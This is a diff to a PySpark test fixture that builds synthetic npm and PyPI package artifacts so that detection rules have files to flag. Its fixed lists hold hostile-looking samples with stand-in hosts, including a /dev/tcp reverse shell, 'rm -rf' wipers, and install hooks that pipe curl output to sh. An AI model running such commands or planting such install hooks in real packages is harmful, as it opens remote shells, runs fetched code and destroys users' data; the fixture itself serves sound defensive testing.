@@ -1,7 +1,9 @@
 """Package queries: documents stand for the files of packages, events for the behaviour of their installs.
 
-Twenty documents in a row are an artifact. Each file's text gets one line of a fixed list of harmless look-alikes
-(hosts end in .example or lie in test ranges), so that every rule has files to find; most artifacts keep only some.
+Twenty documents in a row are an artifact. Every document is a file with its whole text, and two in five get one line of
+a fixed list of harmless look-alikes (hosts end in .example or lie in test ranges), so that every rule has files to find.
+Each artifact has a package.json besides. The SQL of the package queries still leaves three in five documents out, and
+that of `behavior_verdicts` the installs whose events are all harmless, so these don't agree with the queries.
 """
 
 from __future__ import annotations
@@ -40,6 +42,8 @@ LINES = [
     ("dist/o.js", "bash -i >& /dev/tcp/192.0.2.1/1 0>&1"),
     ("x.dist-info/METADATA", "rm -rf /home/user"),
 ]
+#: The path of an artifact's first document, which lies beside its package.json.
+BESIDE = "lib/p.js"
 #: Install scripts by artifact: none, harmless, calling a script, network, danger, wiper.
 SCRIPTS = ["", '{"scripts": {"test": "x"}}', '{"scripts": {"postinstall": "node collect.js"}}', '{"scripts": {"install": "node x http://files.example/y"}}', '{"scripts": {"preinstall": "curl files.example | sh"}}', '{"scripts": {"postinstall": "rm -rf /home"}}', '{"scripts": {"install": 1, "postinstall": "curl x"}}']
 
@@ -49,16 +53,20 @@ def _lit(text: str) -> str:
 
 
 def artifact_files(spark: SparkSession, sf_dir: str) -> DataFrame:
-    """digest, ecosystem, file_idx, path, content. Which files an artifact has follows from the ids."""
+    """digest, ecosystem, file_idx, path, content. Which files get their line follows from the ids."""
     # the test table is one file of one row group, that is one task; unpacked archives come in as many as one likes
     d = spark.read.parquet(f"{sf_dir}/documents.parquet").select("doc_id", "text").repartition("doc_id")
     table = F.array(*[F.struct(F.lit(p).alias("path"), F.lit(t).alias("line")) for p, t in LINES])
     scripts = F.array(*[F.lit(s) for s in SCRIPTS])
     n, a = F.expr(f"cast(doc_id % {PER} as int)"), F.expr(f"cast(doc_id div {PER} as int)")
     rows = d.select("doc_id", "text", n.alias("n"), a.alias("a")).withColumn("f", F.get(table, F.col("n")))
-    kept = rows.filter("n = 0 OR (doc_id * 31 + a * 17) % 5 < 2")
-    content = F.when(F.col("n") == 0, F.get(scripts, F.col("a") % len(SCRIPTS))).otherwise(F.concat("text", F.lit("\n"), F.col("f.line"), F.lit("\n")))
-    return kept.select(F.concat(F.lit("d"), F.col("a")).alias("digest"), F.when(F.col("a") % 3 == 2, "pypi").otherwise("npm").alias("ecosystem"), F.col("n").alias("file_idx"), F.col("f.path").alias("path"), content.cast("binary").alias("content"))
+    first = F.col("n") == 0
+    line = F.when(F.expr("(doc_id * 31 + a * 17) % 5 < 2"), F.col("f.line")).otherwise("")
+    file_ = lambda i, path, content: F.struct(i.cast("int").alias("file_idx"), path.alias("path"), content.cast("binary").alias("content"))
+    own = file_(F.when(first, PER).otherwise(F.col("n")), F.when(first, BESIDE).otherwise(F.col("f.path")), F.concat("text", F.lit("\n"), line, F.lit("\n")))
+    manifest = file_(F.col("n"), F.col("f.path"), F.get(scripts, F.col("a") % len(SCRIPTS)))
+    files = rows.select("a", F.explode(F.when(first, F.array(manifest, own)).otherwise(F.array(own))).alias("x"))
+    return files.select(F.concat(F.lit("d"), F.col("a")).alias("digest"), F.when(F.col("a") % 3 == 2, "pypi").otherwise("npm").alias("ecosystem"), "x.*")
 
 
 _FILES = f"""
